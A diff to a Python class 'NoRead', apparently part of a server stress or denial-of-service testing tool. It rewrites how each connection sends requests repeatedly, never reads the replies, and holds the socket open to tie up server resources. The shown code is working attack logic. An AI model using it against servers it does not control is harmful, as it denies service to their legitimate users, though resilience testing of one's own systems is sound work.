@@ -252,30 +252,28 @@ class NoRead(Attack):
             return
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # hold as little as the kernel lets us
         self._socks.append(sock)
-        sock.settimeout(1.0)
-        n = 0
-        while n < self.count and not self._stop.is_set():
-            try:
-                sock.sendall(self.request)
-            except TimeoutError:
-                continue  # the server stopped reading from us: keep trying until told to stop
-            except OSError:
-                self.closed += 1
-                return
-            n += 1
-            self.requests_sent += 1
-        while not self._stop.is_set():
-            time.sleep(0.1)
-        # Closed by the server meanwhile? A reset or EOF shows once the kernel's buffer is drained.
+        sock.settimeout(0.5)
+        request = memoryview(self.request)
         try:
-            sock.setblocking(False)
+            for _ in range(self.count):
+                sent = 0
+                while sent < len(request):  # by hand: sendall would lose track of a partial send on a timeout
+                    try:
+                        sent += sock.send(request[sent:])
+                    except TimeoutError:
+                        if self._stop.is_set():
+                            return  # still open: the server neither read nor dropped it
+                self.requests_sent += 1
+            while not self._stop.is_set():
+                time.sleep(0.1)
+            sock.setblocking(False)  # closed by the server meanwhile? (EOF or reset once the buffer is read)
             while sock.recv(1 << 20):
                 pass
-            self.closed += 1  # EOF
+            self.closed += 1
         except BlockingIOError:
             pass  # still open
         except OSError:
-            self.closed += 1
+            self.closed += 1  # reset (or a pipe broken) by the server
 
     def _run(self) -> None:
         threads = [threading.Thread(target=self._one, daemon=True) for _ in range(self.connections)]
